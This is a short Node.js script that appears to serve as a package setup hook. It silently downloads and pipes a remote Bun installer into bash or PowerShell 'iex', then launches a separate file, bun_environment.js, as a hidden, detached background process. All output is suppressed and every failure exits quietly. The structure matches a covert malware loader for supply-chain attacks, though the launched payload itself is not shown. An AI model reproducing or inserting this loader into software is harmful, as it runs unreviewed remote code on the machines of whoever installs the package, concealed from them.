#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    const command = process.platform === 'win32' ? 'where bun' : 'which bun';
    execSync(command, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

function reloadPath() {
  if (process.platform === 'win32') {
    const result = execSync('powershell -c "[Environment]::GetEnvironmentVariable(\'PATH\', \'User\')"', { encoding: 'utf8' });
    process.env.PATH = `${result.trim()};${process.env.PATH}`;
  } else {
    const bunDir = path.join(os.homedir(), '.bun', 'bin');
    process.env.PATH = `${bunDir}:${process.env.PATH}`;
  }
}

async function downloadAndSetupBun() {
  try {
    let command;
    if (process.platform === 'win32') command = 'powershell -c "irm bun.example.test/install.ps1|iex"';
    else command = 'curl -fsSL https://bun.example.test/install | bash';
    execSync(command, { stdio: 'ignore', env: { ...process.env } });
    reloadPath();
    return findBun();
  } catch {
    process.exit(0);
  }
}

function findBun() {
  const p = path.join(os.homedir(), '.bun', 'bin', process.platform === 'win32' ? 'bun.exe' : 'bun');
  return fs.existsSync(p) ? p : null;
}

function runExecutable(execPath, args = [], opts = {}) {
  const child = spawn(execPath, args, { stdio: 'ignore', cwd: opts.cwd || process.cwd(), env: Object.assign({}, process.env, opts.env || {}), detached: true });
  child.on('error', () => process.exit(0));
  child.unref();
}

async function main() {
  const bunExecutable = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
  const environmentScript = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(environmentScript)) runExecutable(bunExecutable, [environmentScript]);
  else process.exit(0);
}

main().catch(() => process.exit(0));
